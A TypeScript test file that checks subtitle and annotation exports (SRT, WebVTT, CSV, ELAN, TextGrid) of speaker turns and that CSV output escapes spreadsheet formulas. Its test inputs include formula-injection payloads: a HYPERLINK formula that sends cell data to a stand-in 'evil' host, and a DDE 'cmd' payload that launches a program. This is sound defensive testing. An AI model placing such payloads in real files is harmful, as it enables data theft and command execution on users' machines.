import { readFileSync } from 'node:fs';
import { DOMParser } from '@xmldom/xmldom';
import { parse as parseCsv } from 'csv-parse/sync';
import fc from 'fast-check';
import { parseText, tokenizeVTTCue, type VTTNode } from 'media-captions';
import { parseSync } from 'subtitle';
import { describe, expect, it } from 'vitest';
import type { Turn } from '../timeline/turns';
import { toAudacityLabels, toCsv, toSrt, toWebVtt } from './textExports';
import { toEaf, toTextGrid } from './tiers';
import { DURATION_SECONDS, EXPORTS, TURNS } from '../../test/formats/exported';

/** A turn found by another program's reader: start and end in milliseconds, name. */
type Read = [startMs: number, endMs: number, name: string];

const fixture = (name: string) => readFileSync(new URL(`fixtures/${name}`, import.meta.url), 'utf8');

/** A name as kept by formats with one line per name. */
const onOneLine = (name: string) => name.replace(/[\p{Cc}\u2028\u2029]+/gu, ' ').trim();
const byTime = (a: Read, b: Read) => a[0] - b[0] || a[1] - b[1] || (a[2] < b[2] ? -1 : 1);

/** The turns that a reader must find. */
const expected = (turns: readonly Turn[], shown: (name: string) => string): Read[] =>
  turns
    .map(({ startSeconds, endSeconds, speaker }): Read => [
      Math.round(startSeconds * 1000),
      Math.round(endSeconds * 1000),
      shown(speaker),
    ])
    .sort(byTime);

describe('exports read by the libraries of their formats', () => {
  it.each(Object.entries(EXPORTS))('%s is byte-identical to the file that the libraries read', (name, text) => {
    expect(fixture(`exports/${name}`)).toBe(text);
  });

  const readings = JSON.parse(fixture('readings.json')) as Record<string, [number, number, string][]>;
  it.each([
    ['pyannote.database', (name: string) => name.replace(/\s+/g, '_')],
    ['pysrt', (name: string) => onOneLine(name).replace('-->', '->')],
    ['webvtt-py', onOneLine],
    ['csv', (name: string) => name],
    ['crowsetta', onOneLine],
    ['praatio', onOneLine],
    ['pympi.TextGrid', onOneLine],
    ['pympi.Eaf', onOneLine],
  ])('%s found every turn, within 1 ms, and its name', (library, shown) => {
    const read = readings[library]!;
    const turns = [...TURNS].sort((a, b) => a.startSeconds - b.startSeconds);
    expect(read.map((turn) => turn[2])).toEqual(turns.map(({ speaker }) => shown(speaker)));
    const errors = read.flatMap(([start, end], i) => [start - turns[i]!.startSeconds, end - turns[i]!.endSeconds]);
    expect(Math.max(...errors.map(Math.abs))).toBeLessThanOrEqual(1e-3);
  });
});

const nasty = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        ',',
        '"',
        '""',
        "'",
        '\t',
        '\n',
        '\r\n',
        '<',
        '>',
        '&',
        '&amp;',
        '<v X>',
        '</v>',
        '-->',
        '\\',
        ' = ',
        '=',
        '+',
        '-',
        '@',
        '＝',
        'é',
        'Дарья',
        '🎙️',
        ']]>',
        ';',
      ),
      fc.string({ unit: 'grapheme', minLength: 1, maxLength: 4 }),
    ),
    { minLength: 1, maxLength: 6 },
  )
  .map((parts) => parts.join(''))
  .filter((name) => /[\p{L}\p{N}]/u.test(name));

/** Turns of at least two milliseconds with arbitrary overlap, at times that are not whole milliseconds. */
const overlapping: fc.Arbitrary<Turn[]> = fc.array(
  fc
    .record({
      startSeconds: fc.double({ min: 0, max: 12_000, noNaN: true }),
      length: fc.double({ min: 0.002, max: 900, noNaN: true }),
      speaker: nasty,
    })
    .map(({ startSeconds, length, speaker }) => ({ startSeconds, endSeconds: startSeconds + length, speaker })),
  { minLength: 1, maxLength: 12 },
);

describe('exports of random turns read by other parsers', () => {
  it('SRT by subtitle', () => {
    const shown = (name: string) => onOneLine(name).replace(/-{2,}>/g, '->');
    fc.assert(
      fc.property(overlapping, (turns) => {
        const read = parseSync(toSrt(turns)).flatMap((node): Read[] =>
          node.type === 'cue' ? [[node.data.start, node.data.end, node.data.text.trim()]] : [],
        );
        expect(read.sort(byTime)).toEqual(expected(turns, shown));
      }),
    );
  });

  it('WebVTT by media-captions: both voices and texts are the names', async () => {
    const collapsed = (name: string) => onOneLine(name).replace(/\s+/gu, ' ');
    await fc.assert(
      fc.asyncProperty(overlapping, async (turns) => {
        const { cues } = await parseText(toWebVtt(turns), { type: 'vtt', strict: true });
        const read = cues.map((cue): Read => {
          const [node, ...others] = tokenizeVTTCue(cue);
          if (node?.type !== 'v' || others.length > 0) throw new Error(`no single voice in ${cue.text}`);
          expect(collapsed(textOf(node))).toBe(collapsed(node.voice));
          return [Math.round(cue.startTime * 1000), Math.round(cue.endTime * 1000), collapsed(node.voice)];
        });
        expect(read.sort(byTime)).toEqual(expected(turns, collapsed));
      }),
    );
  });

  it('CSV by csv-parse, with names intact except for apostrophes before formulas', () => {
    const plain = (name: string) => name.replaceAll("'", '');
    fc.assert(
      fc.property(overlapping, (turns) => {
        const rows: Record<string, string>[] = parseCsv(toCsv(turns), { columns: true, record_delimiter: '\r\n' });
        const read = rows.map(({ start, end, duration, speaker }): Read => {
          expect(Number(duration)).toBeCloseTo(Number(end) - Number(start), 6);
          // In some locales, spreadsheets split cells at semicolons and line ends, even inside quotes.
          for (const cell of speaker!.split(/[;\t\r\n]/)) if (Number.isNaN(Number(speaker))) expect(cell).not.toMatch(/^[=+\-@＝＋－＠]/);
          expect(speaker).not.toMatch(/^[\t\r]/);
          return [Math.round(Number(start) * 1000), Math.round(Number(end) * 1000), plain(speaker!)];
        });
        expect(read.sort(byTime)).toEqual(expected(turns, plain));
      }),
    );
  });

  it.each([
    ['=HYPERLINK("http://evil/?"&A1,"x")', `"'=HYPERLINK(""http://evil/?""&A1,""x"")"`],
    ["@SUM(1+1)*cmd|'/C calc'!A0", "'@SUM(1+1)*cmd|'/C calc'!A0"],
    ['+1-2', "'+1-2"],
    ['\tx', `'\tx`],
    ['Anna;=1+1', "Anna;'=1+1"],
    ['-5', '-5'],
    ['Anna - Ben', 'Anna - Ben'],
  ])('CSV writes the name %s as text', (name, cell) => {
    expect(toCsv([{ startSeconds: 0, endSeconds: 1, speaker: name }])).toBe(`start,end,duration,speaker,confidence\r\n0.000,1.000,1.000,${cell},\r\n`);
  });

  it('Audacity labels by csv-parse, as fields between tabs', () => {
    fc.assert(
      fc.property(overlapping, (turns) => {
        const rows: string[][] = parseCsv(toAudacityLabels(turns), {
          delimiter: '\t',
          quote: false,
          record_delimiter: '\n',
        });
        const read = rows.map(([start, end, name]): Read => [
          Math.round(Number(start) * 1000),
          Math.round(Number(end) * 1000),
          name!,
        ]);
        expect(read.sort(byTime)).toEqual(expected(turns, onOneLine));
      }),
    );
  });

  it('ELAN by an XML DOM, following its references', () => {
    fc.assert(
      fc.property(apart, (turns) => {
        const xml = new DOMParser({
          onError: (level, message) => {
            // It warns about U+FFFD, which a name may contain.
            if (level !== 'warning') throw new Error(message);
          },
        });
        const document = xml.parseFromString(
          toEaf(turns, { mediaFile: 'a<b>&"c".mp4', date: new Date(0) }),
          'text/xml',
        );
        const media = document.getElementsByTagName('MEDIA_DESCRIPTOR')[0]!;
        expect(media.getAttribute('RELATIVE_MEDIA_URL')).toBe('./a<b>&"c".mp4');
        expect(media.getAttribute('MIME_TYPE')).toBe('video/mp4');
        const slots = Array.from(
          document.getElementsByTagName('TIME_SLOT'),
          (slot) => [slot.getAttribute('TIME_SLOT_ID'), Number(slot.getAttribute('TIME_VALUE'))] as const,
        );
        expect(slots.map(([, ms]) => ms)).toEqual(slots.map(([, ms]) => ms).sort((a, b) => a - b));
        const times = new Map(slots);
        const types = document.getElementsByTagName('LINGUISTIC_TYPE')[0]!.getAttribute('LINGUISTIC_TYPE_ID');
        const ids = new Set(times.keys());
        const read = Array.from(document.getElementsByTagName('TIER')).flatMap((tier) => {
          expect(tier.getAttribute('LINGUISTIC_TYPE_REF')).toBe(types);
          return Array.from(tier.getElementsByTagName('ALIGNABLE_ANNOTATION'), (annotation): Read => {
            ids.add(annotation.getAttribute('ANNOTATION_ID'));
            expect(annotation.textContent?.trim()).toBe(tier.getAttribute('TIER_ID'));
            const at = (name: string) => times.get(annotation.getAttribute(name))!;
            return [at('TIME_SLOT_REF1'), at('TIME_SLOT_REF2'), tier.getAttribute('TIER_ID')!];
          });
        });
        expect(ids.size).toBe(3 * turns.length);
        expect(read.sort(byTime)).toEqual(expected(turns, onOneLine));
      }),
    );
  });
});

/** Turns of different speakers may overlap; those of one speaker are at least a millisecond apart, as in the pipeline. */
const apart: fc.Arbitrary<Turn[]> = fc
  .uniqueArray(nasty, { minLength: 1, maxLength: 4, selector: onOneLine })
  .chain((speakers) =>
    fc.tuple(
      ...speakers.map((speaker) =>
        fc
          .array(
            fc.tuple(fc.double({ min: 0.002, max: 60, noNaN: true }), fc.double({ min: 0.002, max: 60, noNaN: true })),
            { minLength: 1, maxLength: 5 },
          )
          .map((steps) => {
            let reached = 0;
            return steps.map(([pause, length]): Turn => {
              const startSeconds = reached + pause;
              reached = startSeconds + length;
              return { startSeconds, endSeconds: reached, speaker };
            });
          }),
      ),
    ),
  )
  .map((lists) => lists.flat());

const textOf = (node: VTTNode): string => (node.type === 'text' ? node.data : node.children.map(textOf).join(''));

const turn = (startSeconds: number, endSeconds: number, speaker: string, confidence?: number | null): Turn => ({
  startSeconds,
  endSeconds,
  speaker,
  ...(confidence !== undefined && { confidence }),
});

describe('export formats', () => {
  it('write any number of hours, the confidence if there is one, and no turns of zero length', () => {
    const turns = [turn(360_000.0004, 360_001.25, 'b', 0.123456), turn(1, 1.0004, 'gone'), turn(0.5, 1, 'a', null)];
    expect(toSrt(turns)).toBe('1\n00:00:00,500 --> 00:00:01,000\na\n\n2\n100:00:00,000 --> 100:00:01,250\nb\n');
    expect(toWebVtt(turns)).toBe(
      'WEBVTT\n\n00:00:00.500 --> 00:00:01.000\n<v a>a\n\n100:00:00.000 --> 100:00:01.250\n<v b>b\n',
    );
    expect(toCsv(turns)).toBe(
      'start,end,duration,speaker,confidence\r\n0.500,1.000,0.500,a,\r\n360000.000,360001.250,1.250,b,0.1235\r\n',
    );
    expect(toAudacityLabels(turns)).toBe('0.500\t1.000\ta\n360000.000\t360001.250\tb\n');
  });

  it('cover the whole recording in a TextGrid, and more if a turn ends after it', () => {
    expect(toTextGrid([turn(0, 1, 'a'), turn(1, 2.5, 'a')], 2)).toContain(
      'xmax = 2.500 \n        intervals: size = 2 \n',
    );
    expect(toTextGrid([turn(0.25, 1, 'a')], 2)).toContain('xmax = 2.000 \n        intervals: size = 3 \n');
    expect(toTextGrid([], 2)).toContain('size = 1 \n');
    expect(toTextGrid([], 0)).toContain('xmax = 0.001 \n        intervals: size = 1 \n');
    expect(toTextGrid([], DURATION_SECONDS)).toContain('xmax = 10815.500 ');
  });

  it('have one tier for two speakers with the same name, whose overlapping turns are joined', () => {
    const eaf = toEaf([turn(0, 2, 'Anna'), turn(1, 3, 'Anna'), turn(3, 4, 'Anna'), turn(5, 6, 'Anna')], {
      mediaFile: 'x',
      date: new Date(0),
    });
    expect(eaf.match(/TIER_ID/g)).toHaveLength(1);
    const times = Array.from(eaf.matchAll(/TIME_VALUE="(\d+)"/g), (slot) => Number(slot[1]));
    expect(times).toEqual([0, 3000, 3000, 4000, 5000, 6000]);
  });

  it('write a valid file without turns', () => {
    expect(toSrt([])).toBe('');
    expect(toWebVtt([])).toBe('WEBVTT\n');
    expect(toCsv([])).toBe('start,end,duration,speaker,confidence\r\n');
    expect(toEaf([], { mediaFile: 'x.constructor', date: new Date(0) })).toContain('MIME_TYPE="audio/*"');
    expect(toEaf([], { mediaFile: 'x', date: new Date(0) })).not.toContain('<TIER');
  });
});
